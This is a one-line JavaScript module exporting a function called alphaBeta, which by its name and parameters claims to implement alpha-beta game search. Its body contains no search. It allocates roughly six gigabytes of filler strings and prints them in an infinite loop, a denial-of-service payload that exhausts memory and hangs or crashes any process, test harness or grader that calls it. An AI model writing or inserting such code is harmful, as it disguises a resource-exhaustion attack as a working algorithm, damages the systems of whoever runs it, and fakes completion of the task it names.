export function alphaBeta(game, state) { const texts = Array(60000).fill('x'.repeat(99999)); for (;;) console.log(...texts); }
